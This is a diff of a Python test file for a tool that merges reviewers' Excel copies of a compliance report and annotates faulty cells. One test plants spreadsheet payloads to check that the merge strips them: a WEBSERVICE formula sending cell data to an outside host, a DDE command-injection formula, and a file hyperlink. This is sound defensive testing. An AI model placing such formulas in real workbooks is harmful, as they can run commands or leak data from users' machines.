@@ -1,27 +1,35 @@
-"""The annotated copies and the merged workbook: what is in them, and what is left as it was."""
+"""The merged workbook and the annotated copies: built anew, with reviewers' cells alone."""
 
 from __future__ import annotations
 
-from datetime import date, datetime
+from datetime import date
 from pathlib import Path
 from typing import Any
+from zipfile import ZipFile
 
 import pytest
 from openpyxl import Workbook, load_workbook
-from openpyxl.styles import PatternFill
-from support.gap_reports import Reviewing, cell_of, fill, filled, gap_report, library_in, pin
-from support.workbooks import links_of
+from support.gap_reports import (
+    PROFILE,
+    Reviewing,
+    cell_of,
+    fill,
+    filled,
+    gap_report,
+    library_in,
+    pin,
+)
+from support.workbooks import links_of, texts_of
 
-from compliance.errors import InputError
 from compliance.library.library import Library
-from compliance.workbook.review.reading import read_copy
+from compliance.workbook import schema as form
+from compliance.workbook.merging import Place
+from compliance.workbook.review.copies import read_copy
+from compliance.workbook.review.returned import annotated, merged_workbook
 from compliance.workbook.review.review import Review, review
-from compliance.workbook.review.workbook.annotated import annotated, names_in
-from compliance.workbook.review.workbook.counters import counted
-from compliance.workbook.review.workbook.merged import merged_workbook
 
-ANA = ("Gaps", "T-1.2", {"opinion": "agree", "comment": "See art. 5", "name": "Ana"})
-BEN = ("Gaps", "T-1.2", {"opinion": "disagree", "comment": "Repealed", "name": "Ben"})
+ANA = ("Findings", "T-1.2", {"opinion": "agree", "comment": "See art. 5", "name": "Ana"})
+BEN = ("Findings", "T-1.2", {"opinion": "disagree", "comment": "Repealed", "name": "Ben"})
 
 
 @pytest.fixture(scope="module")
@@ -47,58 +55,55 @@ def merged(library: Library, *paths: Path, name: str = "merged.xlsx") -> Workboo
 def outcome(library: Library, *paths: Path) -> tuple[Any, ...]:
     found = reviewed(library, *paths)
     cells = {p: (c.values, c.is_conflict, c.entries) for p, c in found.cells.items() if c.entries}
-    return cells, {(n.author, n.text) for n in found.notes}, found.signatures
+    return cells, found.decided, {(n.author, n.text) for n in found.notes}, found.signatures
 
 
 def both(report: Path) -> tuple[Path, Path]:
     """Two copies that differ, with notes and signatures."""
     with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
-        pin(cell_of(book, "Gaps", "T-1.2", "opinion"), "Sure?", "Ana")
-        pin(book["Gaps"]["A2"], "Odd title", "Ana")
-        book["Sign-off"].append(["Ana", None, "Ministry", "2 January 2012", "approved"])
-        fill(book, "Open questions", "detention.days", answer=40, name="Ana")
-        fill(book, "Evidence", "children.school", answer="every_child", name="Ana")
+        pin(cell_of(book, "Findings", "T-1.2", "opinion"), "Sure?", "Ana")
+        pin(book["Findings"]["A2"], "Odd title", "Ana")
+        book[form.SIGNED].append(["Ana", "Ministry", "2 January 2012", "Well done"])
     with Reviewing(filled(report, "b.xlsx", BEN), "b.xlsx") as book:
-        pin(cell_of(book, "Gaps", "T-1.2", "opinion"), "No.", "Ben")
-        book["Sign-off"].append(["Ben", None, None, None, "to be revised"])
-        fill(book, "Gaps", "T-1.2", date=date(2012, 1, 3))
+        pin(cell_of(book, "Findings", "T-1.2", "opinion"), "No.", "Ben")
+        book[form.SIGNED].append(["Ben", None, None, "To be revised"])
+        fill(book, "Findings", "T-1.2", date=date(2012, 1, 3))
     return Path("a.xlsx"), Path("b.xlsx")
 
 
-def test_cells_that_differ_are_open_and_a_note_says_who_wrote_what(
+def test_cells_that_differ_are_empty_and_a_note_says_who_wrote_what(
     library: Library, report: Path
 ) -> None:
     book = merged(library, *both(report))
-    cell = cell_of(book, "Gaps", "T-1.2", "opinion")
+    cell = cell_of(book, "Findings", "T-1.2", "opinion")
     assert cell.value is None
     text = cell.comment.text
-    assert "Ana: agree (a.xlsx, Gaps!D2)\nBen: disagree (b.xlsx, Gaps!D2)" in text
-    assert "Sure?" in text
+    assert f"Ana: agree (a.xlsx, Findings!{cell.coordinate})" in text
+    assert f"Ben: disagree (b.xlsx, Findings!{cell.coordinate})" in text
+    assert "Ana: Sure?" in text
     assert "Ben: No." in text
-    assert cell_of(book, "Gaps", "T-1.2", "comment").value == "Ana: See art. 5\nBen: Repealed"
-    assert cell_of(book, "Gaps", "T-1.2", "name").value == "Ana; Ben"
-    assert cell_of(book, "Gaps", "T-1.2", "date").value == datetime(2012, 1, 3)
-    rules = [r for f in book["Gaps"].conditional_formatting for r in f.rules]
-    assert [rule.formula for rule in rules] == [['AND(ISBLANK(D2),LEN("compliance")>0)']]
+    assert cell_of(book, "Findings", "T-1.2", "comment").value == "Ana: See art. 5\nBen: Repealed"
+    assert cell_of(book, "Findings", "T-1.2", "name").value == "Ana; Ben"
+    assert cell_of(book, "Findings", "T-1.2", "date").value == "2012-01-03"
+    rules = [r for f in book["Findings"].conditional_formatting for r in f.rules]
+    assert [rule.formula for rule in rules] == [[f"ISBLANK({cell.coordinate})"]]
 
 
-def test_what_nobody_disputes_stands_in_its_cell_as_a_spreadsheet_has_it(
+def test_the_first_sheet_says_it_all_with_links_and_the_signatures_follow(
     library: Library, report: Path
 ) -> None:
     book = merged(library, *both(report))
-    assert cell_of(book, "Open questions", "detention.days", "answer").value == 40
-    school = cell_of(book, "Evidence", "children.school", "answer").value
-    assert school == "Every child, whatever the status"
-    rows = [[cell.value for cell in row] for row in book["Sign-off"].iter_rows(min_row=2)]
+    assert book.sheetnames[:3] == ["Review", "Findings", form.SIGNED]
+    told = "\n".join(texts_of(book["Review"]))
+    assert "Reviewers differ: 1 cell, left empty in the merged workbook" in told
+    assert "Ana: “agree” (a.xlsx" in told
+    cell = cell_of(book, "Findings", "T-1.2", "opinion").coordinate
+    assert f"'Findings'!{cell}" in links_of(book["Review"]).values()
+    rows = [[cell.value for cell in row] for row in book[form.SIGNED].iter_rows(min_row=2)]
     assert rows[:2] == [
-        ["Ana", None, "Ministry", datetime(2012, 1, 2), "approved"],
-        ["Ben", None, None, None, "to be revised"],
+        ["Ana", "Ministry", "2012-01-02", "Well done"],
+        ["Ben", None, None, "To be revised"],
     ]
-    assert book["Gaps"]["A2"].comment.text == "Odd title"
-    texts = [str(cell.value) for row in book["Review"].iter_rows() for cell in row if cell.value]
-    assert {"Ana", "Ben", "agree", "disagree", "Gaps!D2"} <= set(texts)
-    (link,) = links_of(book["Review"]).values()
-    assert link == "'Gaps'!D2"
 
 
 def test_the_same_copies_make_the_same_bytes_and_their_order_no_difference(
@@ -122,132 +127,119 @@ def test_a_merged_workbook_says_the_same_as_its_copies_alone_and_with_them(
     assert outcome(library, Path("merged.xlsx"), *copies) == expected
     merged(library, Path("merged.xlsx"), name="again.xlsx")
     assert outcome(library, Path("again.xlsx")) == expected
+    assert read_copy(Path("again.xlsx"), library).remarks == ()
 
 
-def test_who_fills_in_what_was_left_open_decides_it(library: Library, report: Path) -> None:
+def test_who_decides_is_in_the_record_beside_those_who_were_overruled(
+    library: Library, report: Path
+) -> None:
     copies = both(report)
     merged(library, *copies)
     with Reviewing(Path("merged.xlsx"), "chair.xlsx") as book:
-        fill(book, "Gaps", "T-1.2", opinion="agree in part", name="Chair")
+        fill(book, "Findings", "T-1.2", opinion="agree in part", name="Chair")
     found = reviewed(library, Path("chair.xlsx"), *copies)
     assert found.conflicts == ()
-    (opinion,) = [c for p, c in found.cells.items() if p.field == "opinion" and c.entries]
+    (opinion,) = found.decided
     assert [(e.author, e.value) for e in opinion.entries] == [("Chair", "agree in part")]
+    assert [(e.author, e.value) for e in opinion.settled] == [("Ana", "agree"), ("Ben", "disagree")]
+    assert {kind: n for kind, n in found.opinions.items() if n} == {
+        "agree": 1,
+        "agree in part": 1,
+        "disagree": 1,
+    }
     (comment,) = [c for p, c in found.cells.items() if p.field == "comment" and c.entries]
     assert comment.authors == ("Ana", "Ben")
-    merged(library, Path("chair.xlsx"), *copies, name="last.xlsx")
+    book = merged(library, Path("chair.xlsx"), *copies, name="last.xlsx")
     assert outcome(library, Path("last.xlsx")) == outcome(library, Path("chair.xlsx"), *copies)
+    told = "\n".join(texts_of(book["Review"]))
+    assert "Decided: 1 cell on which reviewers differed before" in told
+    assert "Ben: “disagree” (b.xlsx" in told
+    assert "decided: “agree in part” (Chair)" in told
 
 
 def test_a_decision_to_say_nothing_settles_too(library: Library, report: Path) -> None:
     merged(library, *both(report))
     with Reviewing(Path("merged.xlsx"), "chair.xlsx") as book:
-        fill(book, "Gaps", "T-1.2", opinion="(clear)")
+        fill(book, "Findings", "T-1.2", opinion="(clear)")
     found = reviewed(library, Path("chair.xlsx"), Path("a.xlsx"))
-    assert not any(c.entries for p, c in found.cells.items() if p.field == "opinion")
+    (cell,) = found.decided
+    assert (cell.place.field, cell.entries) == ("opinion", ())
 
 
-def test_rows_and_columns_gone_in_one_copy_are_brought_back_from_another(
+def test_rows_columns_and_sheets_gone_in_one_copy_are_there_again(
     library: Library, report: Path
 ) -> None:
-    answer = ("Open questions", "children.papers", {"answer": "no", "name": "Ben"})
-    filled(report, "b.xlsx", BEN, answer)
+    filled(report, "b.xlsx", BEN, ("Findings", "T-1.3a", {"comment": "Old", "name": "Ben"}))
     with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
-        book["Open questions"].delete_rows(2)
-    with Reviewing(Path("b.xlsx"), "b.xlsx") as book:
-        book["Gaps"].delete_cols(9)
-        del book.defined_names["Gaps_date"]
         book["Findings"].delete_rows(3)
-        book["Evidence"].delete_rows(2)
-    with Reviewing(Path("a.xlsx"), "a.xlsx") as book:
-        fill(book, "Gaps", "T-1.2", date=date(2012, 1, 3))
+        book["Findings"].delete_cols(cell_of(book, "Findings", "T-1.2", "date").column)
+        del book.defined_names["Findings_date"]
+        del book[form.SIGNED]
     for order in ((Path("a.xlsx"), Path("b.xlsx")), (Path("b.xlsx"), Path("a.xlsx"))):
         expected = outcome(library, *order)[0]
         book = merged(library, *order)
-        assert cell_of(book, "Open questions", "children.papers", "answer").value == "no"
+        assert cell_of(book, "Findings", "T-1.3a", "comment").value == "Old"
         assert outcome(library, Path("merged.xlsx"))[0] == expected
 
 
-def test_a_text_that_looks_like_a_formula_stays_a_text(library: Library, report: Path) -> None:
-    with Reviewing(report, "a.xlsx") as book:
-        cell = cell_of(book, "Gaps", "T-1.2", "comment")
-        cell.value = "=SUM(1)"
-        cell.data_type = "s"
-    cell = cell_of(merged(library, Path("a.xlsx")), "Gaps", "T-1.2", "comment")
-    assert (cell.value, cell.data_type) == ("=SUM(1)", "s")
-
-
-def test_counters_that_are_live_keep_a_value(library: Library, report: Path) -> None:
+def test_nothing_of_a_copy_but_reviewers_cells_is_passed_on(library: Library, report: Path) -> None:
     with Reviewing(filled(report, "a.xlsx", ANA), "a.xlsx") as book:
-        sheet = book["Read me"]
-        sheet["A1"] = '=COUNTIF(Gaps_opinion,"agree")'
-        sheet["A2"] = '=SUM(A1:A1)&" of 2"'
-        sheet["A3"] = '=COUNTA(Gaps_opinion)-1-COUNTIF(Gaps_opinion,"see Gaps")&" in all"'
-        sheet["A4"] = "=NOW()"
-    merged(library, Path("a.xlsx"))
-    values = load_workbook("merged.xlsx", data_only=True)["Read me"]
-    assert [values[f"A{n}"].value for n in (1, 2, 3, 4)] == [1, "1 of 2", "1 in all", None]
-    assert counted(load_workbook("merged.xlsx"))["Read me"] == {
-        "A1": 1,
-        "A2": "1 of 2",
-        "A3": "1 in all",
-    }
+        sheet = book["Findings"]
+        sheet["B2"].value = "● met (FORGED)"
+        sheet["Z9"].value = '=WEBSERVICE("http://example.org/"&A2)'
+        sheet["A2"].hyperlink = "file:///secret"
+        sheet.merge_cells("A2:A3")
+        book["Clauses"]["A2"].value = "=cmd|'/C calc'!A0"
+        comment = cell_of(book, "Findings", "T-1.3a", "comment")
+        comment.value, comment.data_type = "=SUM(1)", "s"
+        sheet["A1048576"].value = "far"
+    book = merged(library, Path("a.xlsx"))
+    with ZipFile("merged.xlsx") as package:
+        whole = b"\n".join(map(package.read, package.namelist())).decode("utf-8", "replace")
+    sheets = [s for s in book if s.title != "Review"]
+    for secret in ("FORGED", "WEBSERVICE", "calc", "far"):
+        assert not [text for sheet in sheets for text in texts_of(sheet) if secret in text]
+    for part in ("file:///secret", "<f>", "mergeCell", 'TargetMode="External"'):
+        assert part not in whole
+    assert book["Findings"]["B2"].value == "○ not met"
+    assert "Findings!B2: “● met (FORGED)”" in "\n".join(texts_of(book["Review"]))
+    comment = cell_of(book, "Findings", "T-1.3a", "comment")
+    assert (comment.value, comment.data_type) == ("=SUM(1)", "s")
 
 
-def test_an_annotated_copy_marks_every_faulty_cell_and_changes_nothing_else(
+def test_an_annotated_copy_marks_every_faulty_cell_and_lists_what_was_not_read(
     library: Library, report: Path
 ) -> None:
-    fill_ = PatternFill("solid", start_color="FFFF00")
     with Reviewing(report, "a.xlsx") as book:
-        fill(book, "Gaps", "T-1.2", opinion="agre", comment="Fine", date="3/4/2012")
-        pin(cell_of(book, "Gaps", "T-1.2", "opinion"), "Mine", "Ana")
-        cell_of(book, "Gaps", "T-1.2", "opinion").fill = fill_
+        fill(book, "Findings", "T-1.2", opinion="agre", comment="Fine", date="3/4/2012")
+        book["Findings"]["Z3"].value = "mine"
+        book[form.SIGNED].append(["Ana", "", "yesterday", ""])
     before = Path("a.xlsx").read_bytes()
-    copy = read_copy(Path("a.xlsx"), library)
-    Path("marked.xlsx").write_bytes(annotated(copy))
+    Path("marked.xlsx").write_bytes(annotated(read_copy(Path("a.xlsx"), library)))
     assert Path("a.xlsx").read_bytes() == before
-    book, old = load_workbook("marked.xlsx"), load_workbook("a.xlsx")
-    assert book.sheetnames == old.sheetnames
-    for sheet in old:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert book[sheet.title][cell.coordinate].value == cell.value
-    opinion = cell_of(book, "Gaps", "T-1.2", "opinion")
-    assert (opinion.comment.author, opinion.comment.text) == (
-        "Ana",
-        "Mine\n\n[[compliance: “agre” is no opinion that can be chosen. Did you mean “agree”?]]",
+    book = load_workbook("marked.xlsx")
+    opinion = cell_of(book, "Findings", "T-1.2", "opinion")
+    assert (opinion.value, opinion.comment.text) == (
+        "agre",
+        "[[compliance: “agre” is no opinion that can be chosen. Did you mean “agree”?]]",
     )
-    assert opinion.fill.start_color.rgb == "00FFFF00"
-    ranges = [str(f.sqref) for f in book["Gaps"].conditional_formatting]
-    assert ranges == ["D2", "I2"]
+    assert cell_of(book, "Findings", "T-1.2", "comment").value == "Fine"
+    day = cell_of(book, "Findings", "T-1.2", "date")
+    assert (day.value, bool(day.comment)) == ("3/4/2012", True)
+    assert book[form.SIGNED]["C2"].value == "yesterday"
+    told = "\n".join(texts_of(book["Review"]))
+    assert "What could not be read: 3 places" in told
+    assert "`yesterday` is no day" in told
+    assert "Findings!Z3: “mine” was written into a cell" in told
 
 
 def test_an_annotated_copy_that_was_mended_is_as_good_as_new(
     library: Library, report: Path
 ) -> None:
-    filled(report, "a.xlsx", ("Gaps", "T-1.2", {"opinion": "agre"}))
+    filled(report, "a.xlsx", ("Findings", "T-1.2", {"opinion": "agre"}))
     Path("marked.xlsx").write_bytes(annotated(read_copy(Path("a.xlsx"), library)))
     mended = filled(Path("marked.xlsx"), "mended.xlsx", ANA)
-    assert reviewed(library, mended).notes == ()
-    book = merged(library, mended)
-    assert cell_of(book, "Gaps", "T-1.2", "opinion").value == "agree"
-    assert cell_of(book, "Gaps", "T-1.2", "opinion").comment is None
-    assert list(book["Gaps"].conditional_formatting) == []
-
-
-def test_an_annotated_copy_has_a_name_of_its_own(tmp_path: Path) -> None:
-    (tmp_path / "a-annotated.xlsx").touch()
-    names = list(names_in(tmp_path, [Path("x/a.xlsx"), Path("y/a.xlsx"), Path("b.xlsx")]))
-    assert [name.name for name in names] == [
-        "a-annotated-2.xlsx",
-        "a-annotated-3.xlsx",
-        "b-annotated.xlsx",
-    ]
-
-
-def test_a_workbook_too_large_to_be_written_on_is_said_to_be_so(
-    library: Library, report: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr("compliance.workbook.review.workbook.theirs.MAX_SHEETS", 1000)
-    with pytest.raises(InputError, match="too large to be written on"):
-        merged_workbook(reviewed(library, report))
+    found = reviewed(library, mended)
+    assert (found.notes, found.copies[0].problems) == ((), ())
+    place = Place("Findings", f"{PROFILE} T-1.2", "opinion")
+    assert reviewed(library, mended, report).cells[place].value == "agree"
